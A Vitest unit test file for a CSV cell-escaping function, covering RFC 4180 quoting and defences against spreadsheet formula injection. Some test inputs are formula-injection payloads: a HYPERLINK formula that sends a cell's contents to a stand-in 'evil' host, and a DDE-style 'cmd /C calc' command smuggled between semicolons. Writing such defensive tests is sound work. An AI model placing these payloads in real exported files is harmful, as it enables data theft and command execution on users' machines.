// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { csvCell } from './csv';

describe('csvCell', () => {
  it('quotes per RFC 4180 only when needed', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('Rock, Pop')).toBe('"Rock, Pop"');
    expect(csvCell('The "Big" Night')).toBe('"The ""Big"" Night"');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(' padded')).toBe('" padded"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(0.785)).toBe('0.785');
    expect(csvCell(12000)).toBe('12000');
    expect(csvCell(false)).toBe('false');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('neutralises text a spreadsheet would run as a formula; numbers stay numbers', () => {
    expect(csvCell('=HYPERLINK("http://evil/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
    expect(csvCell('+1+1')).toBe("'+1+1");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('-cmd')).toBe("'-cmd");
    expect(csvCell('\t=1')).toBe("\"'\t=1\"");
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell('-12.50')).toBe('-12.50');
    expect(csvCell('Rock – Pop')).toBe('Rock – Pop');
  });

  it('quotes a semicolon or tab: a spreadsheet splitting on them must not start a cell inside the text', () => {
    expect(csvCell("Gala;=cmd|' /C calc'!A0;Tickets")).toBe(`"Gala;=cmd|' /C calc'!A0;Tickets"`);
    expect(csvCell('a\t=1')).toBe('"a\t=1"');
  });
});
